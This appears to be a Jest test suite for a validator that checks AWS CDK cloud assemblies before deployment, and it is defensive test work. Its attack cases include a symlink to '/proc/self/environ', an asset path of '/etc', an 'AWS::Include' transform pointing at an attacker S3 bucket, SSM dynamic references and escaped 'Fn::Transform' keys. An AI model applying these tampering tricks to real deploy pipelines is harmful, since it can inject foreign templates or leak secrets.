import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, test } from '@jest/globals';
import { App, type Stack } from 'aws-cdk-lib';
import * as dynamodb from 'aws-cdk-lib/aws-dynamodb';
import type { StageOptions } from '../../lib/infrastructure/stages.ts';
import { UtilityServiceStack } from '../../lib/infrastructure/utility-service-stack.ts';
import manifest from '../../package.json' with { type: 'json' };
import { VARIANTS } from '../infrastructure/synthesis.ts';
import { ROOT, read } from '../support/project.ts';

const { problemsOf } = await import(pathToFileURL(join(ROOT, '.github/check-assembly.mjs')).href);
process.env.CDK_VALIDATION = 'false';

const folder = mkdtempSync(join(tmpdir(), 'utility-service-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** A cloud assembly as `npx cdk synth` makes it, after an owner's change of the stack. */
function synthesized(options: StageOptions, change = (_stack: Stack): void => {}, ownContext = {}): string {
  const outdir = join(mkdtempSync(join(folder, 'genuine-')), 'prod');
  const { context } = JSON.parse(read('cdk.json'));
  const app = new App({
    outdir,
    context: { ...context, 'aws:cdk:disable-creation-stack-traces': true, ...ownContext },
  });
  change(new UtilityServiceStack(app, { stageName: 'prod', options }));
  app.synth();
  return outdir;
}

const genuine = synthesized({});
const NAME = `${manifest.name}-prod`;
const [TEMPLATE, ASSETS, METADATA] = [`${NAME}.template.json`, `${NAME}.assets.json`, `${NAME}.metadata.json`];
const textOf = (file: string) => readFileSync(join(genuine, file), 'utf8');
const hashOf = (text: string) => createHash('sha256').update(text).digest('hex');
const HASH = hashOf(textOf(TEMPLATE));

/** What JSON.parse makes of a file. */
// biome-ignore lint/suspicious/noExplicitAny: an attack can be anywhere.
type Content = any;
const at = (content: Content, path: string[]): Content => path.reduce((value, key) => value[key], content);
const isObject = (value: unknown) => Object(value) === value && !Array.isArray(value);

/** The paths to everything in a file, but only the first of those that differ in a logical id or a hash. */
function paths(file: string): string[][] {
  const root = JSON.parse(textOf(file));
  const found = new Map<string, string[]>();
  const visit = (value: Content, path: string[]): void => {
    const kind = path.map((key) => root.Resources?.[key]?.Type ?? key.replace(/^\w{64}$/, 'hash')).join();
    if (!found.has(kind)) found.set(kind, path);
    for (const [key, inner] of Object.entries(Object(value) === value ? value : {})) visit(inner, [...path, key]);
  };
  visit(root, []);
  return [...found.values()];
}

/** The problems of an assembly in which a file has another text. If that is the template, its hash is right. */
function problemsWith(file: string, text: string, change = (_copy: string): void => {}): string[] {
  const copy = join(mkdtempSync(join(folder, 'attacked-')), 'prod');
  mkdirSync(copy);
  const hash = file === TEMPLATE ? hashOf(text) : HASH;
  for (const name of ['manifest.json', TEMPLATE, ASSETS, METADATA])
    writeFileSync(join(copy, name), name === file ? text : textOf(name).replaceAll(HASH, hash));
  change(copy);
  try {
    return problemsOf(copy);
  } catch (error) {
    return [String(error)]; // which rejects it, too
  }
}

/** The same after a change of what is in the file, written as the CDK does. */
function problemsAfter(file: string, change: (content: Content) => unknown): string[] {
  const content = JSON.parse(textOf(file));
  change(content);
  return problemsWith(file, JSON.stringify(content, undefined, 1));
}

describe('what a build hands to a deploy', () => {
  test('may be what the CDK makes of a stage, with a table, tags and a permissions boundary of the owner', () => {
    const boundary = { '@aws-cdk/core:permissionsBoundary': { name: 'Boundary' } };
    const owned = (stack: Stack) => {
      stack.tags.setTag('CostCenter', '42');
      new dynamodb.TableV2(stack, 'Owned', { partitionKey: { name: 'id', type: dynamodb.AttributeType.STRING } });
    };
    for (const assembly of [genuine, synthesized(VARIANTS.everything), synthesized({}, owned, boundary)])
      expect(problemsOf(assembly)).toEqual([]);
  });

  // Versions of formats, what is only shown, tags, and names of destinations.
  const FREE = /^$|^version|^minimumCliVersion|displayName$|feature-flag-report,properties|tags$|\w{64},destinations$/;
  test.each(['manifest.json', ASSETS])('is rejected with another value in %s, or with more', (file) => {
    for (const path of paths(file).filter((one) => !FREE.test(one.join()))) {
      const problems = problemsAfter(file, (content) => {
        const value = at(content, path);
        if (isObject(value)) value.more = structuredClone(value);
        else at(content, path.slice(0, -1))[path.at(-1) ?? ''] = '/evil';
      });
      expect([path, problems.length > 0]).toEqual([path, true]);
    }
  });

  test('is rejected with a file of the machine', () => {
    const link = (copy: string) => symlinkSync('/proc/self/environ', join(copy, 'link'));
    expect(problemsWith(METADATA, '{}', link)).toEqual([expect.stringContaining('is a symbolic link')]);
    const asset = { '/a': [{ type: 'aws:cdk:asset', data: { path: '/etc' } }] };
    expect(problemsWith(METADATA, JSON.stringify(asset))).toEqual([expect.stringContaining('has assets')]);
  });
});

describe('a template that says less than it does', () => {
  const INCLUDE = { Name: 'AWS::Include', Parameters: { Location: 's3://attackers-bucket/snippet.json' } };
  const more = (part: string, added: object) => (template: Content) =>
    Object.assign(template, { [part]: { ...template[part], ...added } });
  const output = (Value: unknown) => more('Outputs', { More: { Value } });

  test('is rejected with a transform, wherever that is', () => {
    const template = JSON.parse(textOf(TEMPLATE));
    for (const path of paths(TEMPLATE).filter((one) => isObject(at(template, one)))) {
      const problems = problemsAfter(TEMPLATE, (content) =>
        Object.assign(at(content, path), { 'Fn::Transform': INCLUDE }),
      );
      expect([path, problems]).toEqual([path, expect.arrayContaining([`${TEMPLATE} has "Fn::Transform"`])]);
    }
  });

  test.each<[what: string, attack: (template: Content) => unknown]>([
    ['a macro', more('Transform', ['AWS::LanguageExtensions'])],
    ['a loop', more('Resources', { 'Fn::ForEach::A': ['A', ['B'], {}] })],
    ...['AWS::CloudFormation::Stack', 'AWS::CDK::Metadata', 'Custom::A', 'A::B::C', 'A::B::C::MODULE', undefined].map(
      (Type): [string, (template: Content) => unknown] => [
        `a resource of the type ${Type}`,
        more('Resources', { More: { Type } }),
      ],
    ),
    ["another stack's value", output({ 'Fn::ImportValue': 'a' })],
    ['a dynamic reference', output('{{resolve:ssm:/a}}')],
    ['a dynamic reference in parts', output({ 'Fn::Join': ['{', ['a', '{resolve:ssm:/a}}']] })],
    ['a dynamic reference in a variable', output({ 'Fn::Sub': [`{\${A}`, { A: '{resolve:ssm:/a}}' }] })],
    ['a parameter', more('Parameters', { More: { Type: 'AWS::SSM::Parameter::Value<String>', Default: '/a' } })],
    ['another version', ({ Parameters: { BootstrapVersion } }) => Object.assign(BootstrapVersion, { Default: '/a' })],
    ['a rule', more('Rules', { More: { Assertions: [] } })],
  ])('is rejected with %s', (_what, attack) => {
    expect(problemsAfter(TEMPLATE, attack)).not.toEqual([]);
  });

  test.each([
    ['a transform in another spelling', `"Fn::Tran\\u0073form": ${JSON.stringify(INCLUDE)},`],
    ['a key twice', '"More": { "Type": "AWS::IAM::Role" },\n "More": { "Type": "AWS::IAM::User" },'],
  ])('is rejected with %s', (_what, text) => {
    const attacked = textOf(TEMPLATE).replace('"Resources": {', (found) => `${found}\n${text}`);
    expect(problemsWith(TEMPLATE, attacked)).toContain(`${TEMPLATE} is not written as the CDK does`);
  });
});
